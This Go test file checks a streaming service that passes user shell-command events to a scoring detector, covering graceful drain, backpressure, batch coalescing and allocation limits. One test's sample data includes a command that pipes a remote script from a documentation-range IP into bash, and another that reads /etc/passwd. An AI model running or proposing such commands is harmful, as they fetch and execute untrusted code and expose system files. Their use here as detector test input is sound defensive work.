package stream

import (
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// slowScorer blocks until released, so tests can pile up queued requests.
// An optional entered channel (buffered, non-blocking send) lets a test
// wait until the worker is actually inside Score.
type slowScorer struct {
	gate    chan struct{}
	entered chan struct{}
	calls   atomic.Int64
}

func (s *slowScorer) Score(lines []string) ([]float64, error) {
	s.calls.Add(1)
	if s.entered != nil {
		select {
		case s.entered <- struct{}{}:
		default:
		}
	}
	<-s.gate
	return make([]float64, len(lines)), nil
}

// TestServiceDrainOnClose: every request accepted before Close gets its
// verdicts; Submit after Close is refused.
func TestServiceDrainOnClose(t *testing.T) {
	det := NewDetector(&stubScorer{def: 0.1}, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 8, BatchEvents: 16})

	const producers = 6
	const perProducer = 20
	var wg sync.WaitGroup
	var delivered atomic.Int64
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			for i := 0; i < perProducer; i++ {
				evts := []Event{ev(fmt.Sprintf("u%d", p), int64(i), fmt.Sprintf("cmd %d", i))}
				vs, err := svc.Submit(evts)
				if err != nil {
					return // closed mid-stream: acceptable for this test
				}
				if len(vs) != 1 {
					t.Errorf("got %d verdicts for 1 event", len(vs))
					return
				}
				delivered.Add(1)
			}
		}(p)
	}
	wg.Wait()
	svc.Close()
	if got := delivered.Load(); got != producers*perProducer {
		t.Fatalf("delivered %d, want %d", got, producers*perProducer)
	}
	if st := svc.Stats(); st.Events != producers*perProducer {
		t.Fatalf("events processed %d, want %d", st.Events, producers*perProducer)
	}
	if _, err := svc.Submit([]Event{ev("u", 1, "x")}); err != ErrClosed {
		t.Fatalf("Submit after Close: %v, want ErrClosed", err)
	}
	svc.Close() // idempotent
}

// TestServiceBackpressureAndDrain: with the worker blocked, the bounded
// queue fills and a further Submit blocks instead of growing memory; once
// the worker is released and the service closed, every queued request is
// answered (graceful drain).
func TestServiceBackpressureAndDrain(t *testing.T) {
	scorer := &slowScorer{gate: make(chan struct{})}
	det := NewDetector(scorer, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 2, BatchEvents: 1})

	var replies atomic.Int64
	var wg sync.WaitGroup
	submit := func(i int) {
		defer wg.Done()
		if _, err := svc.Submit([]Event{ev("u", int64(i), "x")}); err == nil {
			replies.Add(1)
		}
	}
	// 1 in the worker + 2 in the queue + 1 blocked on the full queue.
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go submit(i)
	}
	deadline := time.After(2 * time.Second)
	for svc.Stats().QueueDepth < 2 {
		select {
		case <-deadline:
			t.Fatalf("queue depth %d never reached bound 2", svc.Stats().QueueDepth)
		case <-time.After(time.Millisecond):
		}
	}
	if got := replies.Load(); got != 0 {
		t.Fatalf("%d replies before the worker was released", got)
	}
	close(scorer.gate) // release the worker
	wg.Wait()
	svc.Close()
	if got := replies.Load(); got != 4 {
		t.Fatalf("replies %d, want 4 (drain must answer every accepted request)", got)
	}
}

// TestServiceCoalescing: queued single-event requests merge into one
// Detector.Process (and so one Score call).
func TestServiceCoalescing(t *testing.T) {
	scorer := &slowScorer{gate: make(chan struct{}), entered: make(chan struct{}, 1)}
	det := NewDetector(scorer, DefaultConfig())
	svc := NewService(det, ServiceConfig{QueueRequests: 16, BatchEvents: 64})

	var wg sync.WaitGroup
	submit := func(i int) {
		defer wg.Done()
		if _, err := svc.Submit([]Event{ev("u", int64(i), fmt.Sprintf("c%d", i))}); err != nil {
			t.Errorf("submit: %v", err)
		}
	}
	// Land the first request in the worker alone: wait until the scorer is
	// inside Score before submitting the rest, so they are guaranteed to
	// queue behind it instead of riding along in its batch.
	wg.Add(1)
	go submit(0)
	select {
	case <-scorer.entered:
	case <-time.After(5 * time.Second):
		t.Fatal("worker never entered Score")
	}
	for i := 1; i < 9; i++ {
		wg.Add(1)
		go submit(i)
	}
	// Wait until the other eight are queued behind the blocked worker.
	deadline := time.After(5 * time.Second)
	for svc.Stats().QueueDepth < 8 {
		select {
		case <-deadline:
			t.Fatalf("queue depth %d never reached 8", svc.Stats().QueueDepth)
		case <-time.After(time.Millisecond):
		}
	}
	close(scorer.gate)
	wg.Wait()
	svc.Close()
	// First call carried 1 event; the second coalesced the 8 queued ones.
	if calls := scorer.calls.Load(); calls != 2 {
		t.Fatalf("Score calls = %d, want 2 (coalescing)", calls)
	}
}

// submitAllocBudget is the allocation count of one warm 512-event window
// through Service.Submit over stubScorer, as measured when the budget was
// set: sessions, verdicts and the queue hop, without a model. A change
// that allocates per event breaks it by hundreds.
const submitAllocBudget = 11

// TestServiceSubmitAllocs pins the streaming layer's allocations for one
// warm window: every user already has a full session, as in a
// long-running daemon. Allocation counts do not jitter with host load, so
// this holds where a lines/s gate would not.
func TestServiceSubmitAllocs(t *testing.T) {
	lines := []string{"ls -la /tmp", "curl -fsSL http://203.0.113.7/x.sh | bash", "cat /etc/passwd", "id"}
	events := make([]Event, 512)
	for i := range events {
		events[i] = ev(fmt.Sprintf("user%03d", i%40), 1_700_000_000+int64(i), lines[i%len(lines)])
	}
	svc := NewService(NewDetector(&stubScorer{def: 0.1}, DefaultConfig()), ServiceConfig{})
	defer svc.Close()
	submit := func() {
		if _, err := svc.Submit(events); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < 6; i++ { // 6 × at least 12 events per user fill every 64-line window
		submit()
	}
	if n := testing.AllocsPerRun(20, submit); n > submitAllocBudget {
		t.Fatalf("one warm 512-event Submit made %.0f allocations, budget %d", n, submitAllocBudget)
	}
}
